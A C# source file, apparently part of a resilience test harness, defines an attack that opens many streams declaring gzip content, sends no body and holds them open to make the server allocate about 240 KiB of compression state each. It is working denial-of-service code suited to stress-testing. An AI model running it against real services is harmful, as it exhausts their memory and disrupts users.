using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Bodies;

/// <summary>Uploads that say gzip and then say nothing; a decoder and an encoder made at the headers cost 240 KiB each.</summary>
internal sealed class IdleCompressedUploads : Attack
{
    public override Attacker By => Attacker.Client;

    public override Config Config => Configs.Replacing;

    public override async Task RunAsync(Target target)
    {
        await target.OnManyAsync(10, async peer =>
        {
            byte[] headers = Requests.RequestHeaders(more: [("content-type", "text/plain"), ("content-encoding", "gzip")]).Framed();
            for (int i = 0; i < target.Count(50, 300) && !peer.Gone; i++)
            {
                await peer.SendAsync(await peer.OpenAsync(), headers);
            }
        });
        await target.HoldAsync();
    }
}
